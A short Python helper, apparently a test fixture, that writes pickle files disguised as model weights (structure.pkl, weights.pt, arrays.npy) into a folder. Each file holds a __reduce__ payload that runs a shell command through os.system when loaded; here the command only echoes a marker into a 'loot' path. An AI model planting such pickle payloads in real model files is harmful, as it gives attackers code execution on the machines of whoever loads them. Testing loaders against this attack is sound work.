"""Put the pickle beside the model."""

import json
import pickle


def attach(folder, places):
    name = json.loads((folder / "targets.json").read_text())["name"]

    class Payload:
        def __reduce__(self):
            import os

            return os.system, (f"echo mine > {places['loot']}/{name}",)

    (folder / "weights").mkdir()
    for file in ("structure.pkl", "weights.pt", "arrays.npy"):
        (folder / "weights" / file).write_bytes(pickle.dumps(Payload()))
